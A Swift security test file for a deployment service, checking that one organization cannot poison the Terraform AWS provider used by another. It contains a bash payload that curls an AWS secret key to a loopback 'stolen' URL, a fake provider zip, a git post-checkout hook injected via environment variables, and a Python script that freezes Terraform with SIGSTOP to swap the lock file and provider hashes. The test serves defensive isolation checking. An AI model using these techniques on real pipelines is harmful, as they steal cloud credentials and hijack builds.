import FoundationEssentials
import Host
import TestKit
import Testing

/// One organization tries to have its own program run under the name of a provider that another organization uses.
@Suite(.requires(.terraform), .requires(.bubblewrap), .requires(.python), .requires(.setpriv), .requires(.curl), .requires(.git))
struct PoisonTests {
    private static let using = """
        terraform {
          required_providers {
            aws = {
              source  = "hashicorp/aws"
              version = ">= 5.0"
            }
          }
        }
        provider "aws" {}

        """

    /// Reports the caller's secret to the registry's own server, where the test looks for it.
    private static func evil(_ port: Int) -> String {
        "#!/bin/bash\n/usr/bin/curl -s -o /dev/null http://127.0.0.1:\(port)/stolen/$AWS_SECRET_ACCESS_KEY\nexit 1\n"
    }

    /// A server with two organizations, whose Terraform asks a registry that has the real provider.
    private static func with(_ body: @Sendable (Scene) async throws -> Void) async throws {
        let registry = try await ProviderRegistry()
        try registry.publish(["5.1.0"])
        // The thief listens on loopback, which a filtered run would not reach: it is the store that has to hold here.
        let environment = [
            "TF_CLI_CONFIG_FILE": registry.configurationFile, "SLIPWAY_SANDBOX": "required", "SLIPWAY_NETWORK": "host",
        ]
        try await Slipway.with(environment: environment) { slipway in
            let served = try await ServedSlipway(slipway, workers: 2)
            var tokens: [String: String] = [:]
            for name in ["thief", "victim"] {
                _ = try await served.json("POST", "/api/organizations", "{\"name\":\"\(name)\"}")
                let made = try await served.json("POST", "/api/tokens", #"{"name":"t","organization":"\#(name)","role":"member"}"#)
                tokens[name] = made["token"]?.text
            }
            try await body(Scene(served: served, registry: registry, tokens: tokens))
            try await served.stop()
        }
    }

    struct Scene: Sendable {
        let served: ServedSlipway
        let registry: ProviderRegistry
        let tokens: [String: String]

        /// Deploys files for an organization and waits for the job's end.
        func deploy(
            _ organization: String,
            _ files: [String: [UInt8]],
            executable: Set<String> = [],
            environment: [String: String] = [:]
        ) async throws -> (status: String?, log: String) {
            let folder = "\(served.slipway.folder)/\(UUID().uuidString)"
            for (name, content) in files {
                let path = "\(folder)/\(name)"
                try FileSystem.makeFolder(path.split(separator: "/", omittingEmptySubsequences: false).dropLast().joined(separator: "/"))
                try FileSystem.write(content, to: path, mode: executable.contains(name) ? 0o755 : 0o644)
            }
            let packed = try await served.run("/usr/bin/env", ["tar", "-czf", "\(folder).tgz", "-C", folder, "."])
            guard packed.status.isSuccess else { throw TooLate(description: "an archive: \(packed.errorText)") }
            let variables = environment.map { "\"\($0.key)\":\"\($0.value)\"" }.joined(separator: ",")
            let run = "{\"projectId\":\"p\",\"environment\":{\(variables)}}"
            let asked = try await ask(
                organization,
                "POST",
                "/api/deploy",
                ["-F", "run=\(run);type=application/json", "-F", "source=@\(folder).tgz;type=application/gzip"]
            )
            guard let job = JSONTree(asked)?["jobId"]?.text else { throw TooLate(description: "a job: \(asked)") }
            let deadline = ContinuousClock.now + .seconds(120)
            while ContinuousClock.now < deadline {
                let status = JSONTree(try await ask(organization, "GET", "/api/deploy/status/\(job)"))?["status"]?.text
                if ["completed", "failed"].contains(status) {
                    return (status, try await ask(organization, "GET", "/api/jobs/\(job)/log"))
                }
                try await Task.sleep(for: .milliseconds(100))
            }
            throw TooLate(description: "the end of \(job)")
        }

        private func ask(_ organization: String, _ method: String, _ path: String, _ more: [String] = []) async throws -> String {
            let header = "Authorization: Bearer \(tokens[organization] ?? "")"
            let arguments = ["curl", "--silent", "--max-time", "60", "-X", method, "-H", header] + more + [served.url + path]
            return try await served.run("/usr/bin/env", arguments).text
        }

        /// What somebody's program reported.
        var stolen: [String] { registry.requests.filter { $0.hasPrefix("/stolen/") } }

        /// The victim gets the registry's provider, and keeps its secret.
        func checkVictim() async throws {
            let environment = ["AWS_SECRET_ACCESS_KEY": "victim-secret"].merging(ProviderRegistry.environment) { own, _ in own }
            let deployed = try await deploy("victim", ["main.tf": Array(PoisonTests.using.utf8)], environment: environment)
            #expect(deployed.status == "completed", "\(deployed.log)")
            #expect(!stolen.contains { $0.contains("victim") }, "\(stolen)")
            let store = "\(served.slipway.data)/providers"
            let hosts = try FileSystem.names(in: store).filter { !$0.hasPrefix(".") }
            let versions = try hosts.flatMap { try FileSystem.names(in: "\(store)/\($0)/hashicorp/aws") }
            #expect(versions == ["5.1.0"])
            #expect(try FileSystem.names(in: "\(store)/.incoming").isEmpty)
            let doctor = try await served.slipway.run("doctor")
            #expect(doctor.output.contains("1 provider in the store, all verified"), "\(doctor)")
        }
    }

    @Test func `a provider below terraform.d of the source serves its own organization only`() async throws {
        try await Self.with { scene in
            let version = "5.999.0"
            let packed = "\(scene.served.slipway.folder)/packed"
            let script =
                "import sys, zipfile\ni = zipfile.ZipInfo(sys.argv[2]); i.external_attr = 0o100755 << 16\n"
                + "zipfile.ZipFile(sys.argv[1], 'w').writestr(i, sys.argv[3])\n"
            let arguments = ["python3", "-c", script, packed, "terraform-provider-aws_v\(version)_x5", Self.evil(scene.registry.port)]
            let made = try await scene.served.run("/usr/bin/env", arguments)
            try #require(made.status.isSuccess, "\(made.errorText)")
            var files = ["main.tf": Array(Self.using.utf8)]
            let content = try FileSystem.read(packed)
            for host in ["registry.terraform.io", "registry.opentofu.org"] {
                for machine in ["linux_amd64", "linux_arm64"] {
                    files["terraform.d/plugins/\(host)/hashicorp/aws/terraform-provider-aws_\(version)_\(machine).zip"] = content
                }
            }
            let theft = try await scene.deploy("thief", files, environment: ["AWS_SECRET_ACCESS_KEY": "own-secret"])
            #expect(theft.status == "failed", "\(theft.log)")
            #expect(scene.stolen.contains("/stolen/own-secret"), "its own program with its own secret: \(theft.log)")
            try await scene.checkVictim()
        }
    }

    @Test func `a hook that exchanges download and lock file during init reaches its own organization only`() async throws {
        try await Self.with { scene in
            var files = try await BareRepository.files(of: ["module.tf": "output \"x\" {\n  value = 1\n}\n"], below: "repo")
            files["main.tf"] = Array("module \"m\" {\n  source = \"git::file:///workspace/source/repo\"\n}\n".utf8)
            files["evil"] = Array(Self.evil(scene.registry.port).utf8)
            files["hooks/post-checkout"] = Array(
                "#!/bin/bash\nexec /usr/bin/python3 /workspace/source/exchange.py >/dev/null 2>&1\n".utf8
            )
            files["exchange.py"] = Array(Self.exchange.utf8)
            let theft = try await scene.deploy(
                "thief",
                files,
                executable: ["hooks/post-checkout", "evil"],
                environment: [
                    "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.hooksPath", "GIT_CONFIG_VALUE_0": "/workspace/source/hooks",
                ]
            )
            #expect(theft.status == "completed" || theft.status == "failed", "\(theft.log)")
            try await scene.checkVictim()
        }
    }

    /// Puts a provider where `init` downloads to, and its hash into the lock file in the moment in which Terraform has written that.
    private static let exchange = """
        import base64, hashlib, os, shutil, signal, time
        # `get`, which comes first, must fail, for a module that is there is not downloaded again.
        if not os.path.exists("/slipway/incoming"): raise SystemExit(1)
        version, name = "5.998.0", "terraform-provider-aws_v5.998.0_x5"
        hosts = ["registry.terraform.io", "registry.opentofu.org"]
        machine = "linux_arm64" if os.uname().machine == "aarch64" else "linux_amd64"
        for host in hosts:
            folder = f"/slipway/incoming/providers/{host}/hashicorp/aws/{version}/{machine}"
            os.makedirs(folder, exist_ok=True)
            shutil.copy("/workspace/source/evil", f"{folder}/{name}")
        content = open("/workspace/source/evil", "rb").read()
        summary = f"{hashlib.sha256(content).hexdigest()}  {name}\\n"
        h1 = "h1:" + base64.b64encode(hashlib.sha256(summary.encode()).digest()).decode()
        lock = "".join(f'provider "{host}/hashicorp/aws" {{\\n  version = "{version}"\\n  hashes = ["{h1}"]\\n}}\\n' for host in hosts)
        path = "/workspace/source/.terraform.lock.hcl"
        open(path + ".mine", "w").write(lock)
        shutil.copy(path + ".mine", path)
        programs = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if open(f"/proc/{pid}/comm").read().strip() in ("terraform", "tofu"): programs.append(int(pid))
            except OSError: pass
        before = os.stat(path).st_ino
        if os.fork(): os._exit(0)
        os.setsid()
        # In steps, so that it does not end between writing the file and the look at it.
        end = time.time() + 20
        while time.time() < end and os.stat(path).st_ino == before:
            for pid in programs: os.kill(pid, signal.SIGCONT)
            time.sleep(0.00005)
            for pid in programs: os.kill(pid, signal.SIGSTOP)
        os.replace(path + ".mine", path)
        for pid in programs: os.kill(pid, signal.SIGCONT)
        """
}
